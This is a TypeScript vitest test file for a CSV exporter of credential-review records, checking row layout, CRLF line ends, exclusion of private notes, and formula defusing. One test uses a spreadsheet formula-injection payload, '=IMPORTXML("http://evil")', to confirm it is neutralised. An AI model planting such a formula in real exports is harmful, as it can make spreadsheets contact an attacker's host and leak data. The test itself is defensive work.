import { describe, expect, it } from 'vitest';
import type { ReviewDraft } from '../draft';
import { REVIEW_CSV_COLUMNS, reviewCsv } from './review-csv';
import { ASSESSOR_ID, PRIVATE_NOTE, REVIEW_ID, exportInput, notYetDraft } from './test-fixtures';

/** A strict RFC 4180 reader, enough to check what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted && char === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && char === '\r' && text[i + 1] === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
      i++;
    } else {
      field += char;
    }
  }
  expect(field).toBe('');
  return rows;
}

function table(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual([...REVIEW_CSV_COLUMNS]);
  return rows.map((row) => Object.fromEntries(row.map((value, i) => [header?.[i] ?? '', value])));
}

describe('reviewCsv', () => {
  it('writes one row per criterion and one per decision, with CRLF line ends', () => {
    const csv = reviewCsv([exportInput()]);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toContain('\n');
    const rows = table(csv);
    expect(rows.map((r) => [r['row_type'], r['criterion_id'], r['level_label'], r['score']])).toEqual([
      ['criterion', 'design', 'Proficient', '3'],
      ['criterion', 'adjust', 'Developing', '2'],
      ['criterion', 'reflect', 'Exemplary', '4'],
      ['decision', '', '', '9'],
    ]);
    expect(rows[1]).toMatchObject({
      review_id: REVIEW_ID,
      revision: '1',
      credential_id: 'cfu',
      credential_title: 'Checking for Understanding',
      candidate_pseudonym: 'Candidate T-0042',
      assessor_id: ASSESSOR_ID,
      criterion_title: 'Adjusting instruction',
      level_id: 'l2',
      rationale: 'The video shows the check but no change of plan afterwards.',
      decision: '',
      submitted_at: '2026-10-02T10:00:00Z',
    });
    expect(rows[3]).toMatchObject({
      decision: 'not-yet',
      implied_decision: 'not-yet',
      condition_code: '',
      justification: '',
    });
    expect(csv).not.toContain(PRIVATE_NOTE);
  });

  it('records a justification, and an unscorable condition with its explanation and no score', () => {
    const departing: ReviewDraft = {
      ...notYetDraft(),
      decision: { kind: 'earned', explanation: '' },
      decisionJustification: 'The "adjust" evidence is in the reflection, not the video.',
    };
    const unscorable: ReviewDraft = {
      ...notYetDraft(),
      decision: { kind: 'unscorable', conditionCode: 'missing-evidence', explanation: 'No video, no data.' },
    };
    const rows = table(reviewCsv([exportInput(departing), exportInput(unscorable)]));
    expect(rows.filter((r) => r['row_type'] === 'decision')).toMatchObject([
      { decision: 'earned', implied_decision: 'not-yet', justification: departing.decisionJustification },
      {
        decision: 'unscorable',
        condition_code: 'missing-evidence',
        rationale: 'No video, no data.',
        score: '',
        implied_decision: '',
      },
    ]);
    expect(rows).toHaveLength(5);
  });

  it('defuses formulas an assessor or packet author typed', () => {
    const draft: ReviewDraft = { ...notYetDraft(), rationales: { adjust: '=IMPORTXML("http://evil")' } };
    const rows = table(reviewCsv([exportInput(draft)]));
    expect(rows[1]?.['rationale']).toBe('\'=IMPORTXML("http://evil")');
  });

  it('writes only the header for no reviews', () => {
    expect(reviewCsv([])).toBe(REVIEW_CSV_COLUMNS.join(',') + '\r\n');
  });
});
